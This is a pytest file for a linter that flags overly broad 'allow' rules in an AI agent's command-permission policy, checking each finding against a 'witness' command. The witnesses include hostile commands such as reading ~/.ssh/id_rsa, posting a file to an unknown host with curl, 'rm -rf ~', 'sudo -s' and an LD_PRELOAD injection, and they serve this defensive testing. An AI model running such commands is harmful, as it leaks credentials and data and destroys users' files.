"""broad-allow: any code, any program, secrets: each with a command that is allowed."""

from collections.abc import Callable

import pytest

from humanlayer_agent.policy_tools.lint import Finding

Lint = Callable[..., list[Finding]]


@pytest.mark.sample(4)
@pytest.mark.parametrize(
    ("when", "witness"),
    [
        ("{effect: execute, role: [code, script]}", "/srv/x"),
        ("{program: node, effect: execute}", "node -e 'eval(x)'"),
        ("{effect: execute, role: program}", "frobnicate"),
        ("{effect: privilege, role: itself}", "sudo -s"),
        ("{effect: read}", "cat ~/.ssh/id_rsa"),
        ("{effect: environment}", "LD_PRELOAD=/srv/x.so ls"),
        ("{effect: [network, listen], role: [itself, operand]}", "curl -d @a https://unheard-of.example"),
        ("{effect: package}", "pip install frobnicate"),
        ("{effect: delete}", "rm -rf ~"),
    ],
)
def test_an_allow_with_its_witness(lint_rules: Lint, when: str, witness: str) -> None:
    reads = "  - {id: reads, decision: allow, when: {effect: read, paths: {all_within: ['${PROJECT}/**']}}}\n"
    (found,) = lint_rules(f"  - {{id: broad, decision: allow, when: {when}}}\n{reads}", "broad-allow")
    assert (found.about, found.level, found.unknown) == ("broad", "error", False)
    assert found.witness is not None
    assert found.witness.verdict == "allow"
    assert "broad" in found.witness.rules
    assert witness in found.message + found.witness.command


@pytest.mark.sample(4)
@pytest.mark.parametrize(
    "rules",
    [
        "  - {id: a, decision: allow, when: {effect: read, paths: {all_within: ['${PROJECT}/**']}}}\n",
        "  - {id: a, decision: allow, when: {effect: execute, role: project}}\n",
        "  - {id: a, decision: allow, when: {effect: network, hosts: {any_in: [a.example.org]}}}\n",
        "  - {id: a, decision: allow, when: {effects: {only: []}}}\n",
        # What another rule stops is not let through.
        "  - {id: a, decision: allow, when: {program: node, effect: execute}}\n"
        "  - {id: b, decision: ask, when: {effect: execute, unread: true}}\n",
    ],
)
def test_a_narrow_allow(lint_rules: Lint, rules: str) -> None:
    assert lint_rules(rules, "broad-allow") == []


def test_an_allow_for_one_agent(lint_rules: Lint) -> None:
    rule = "  - {id: mine, decision: allow, when: {agent: 'trusted-*', effect: execute, role: code}}\n"
    (found,) = lint_rules(rule, "broad-allow")
    assert found.about == "mine"


def test_calls_of_any_function(lint_rules: Lint) -> None:
    rule = "  - {id: calls, decision: allow, when: {effect: execute, role: function%s}}\n"
    (found,) = lint_rules(rule % "", "broad-allow")
    assert "calls any function" in found.message
    assert found.witness is not None
    assert (found.witness.command, found.witness.verdict) == ("frobnicate(a=1)", "allow")
    assert lint_rules(rule % ", names: {any_in: [send_mail]}", "broad-allow") == []


@pytest.mark.parametrize("pattern", ["*", "*.com", "*.io"])
def test_hosts_of_anybody(lint_rules: Lint, pattern: str) -> None:
    rules = (
        f"  - {{id: hosts, decision: allow, when: {{effect: network, hosts: {{any_in: ['{pattern}']}}}}}}\n"
        "  - {id: reads, decision: allow, when: {effect: read, paths: {all_within: ['${PROJECT}/**']}}}\n"
    )
    (found,) = lint_rules(rules, "broad-allow")
    assert found.about == "hosts"


def test_everything_that_no_rule_is_about(lint_rules: Lint) -> None:
    rule = "  - {id: r, decision: ask, when: {program: python}}\n"
    (found,) = lint_rules(rule, "broad-allow", more="defaults: {unmatched: allow}\n")
    assert (found.about, found.level, found.place.line) == ("defaults", "error", 3)
    assert found.witness is not None
    assert (found.witness.verdict, found.witness.rules) == ("allow", ())
    observed = "observe: true\ndefaults: {unmatched: allow}\n"
    assert lint_rules(rule, "broad-allow", more=observed) == []


def test_a_program_that_the_catalog_does_not_know_is_unknown(lint_rules: Lint) -> None:
    (found,) = lint_rules("  - {id: own, decision: allow, when: {program: our-tool, effect: execute}}\n", "broad-allow")
    assert found.unknown
    assert found.witness is not None
    assert found.witness.command == "our-tool a"


def test_programs_that_run_code_by_the_catalogs_own_examples(lint_rules: Lint) -> None:
    """What no list of dangers names is found by what the catalog says of the program."""
    (found,) = lint_rules(
        "  - {id: x, decision: allow, when: {program: [gdb, deno, Rscript], effect: [execute, read, write]}}\n",
        "broad-allow",
    )
    assert found.witness is not None
    assert found.witness.command.split()[0] in ("gdb", "deno", "Rscript")
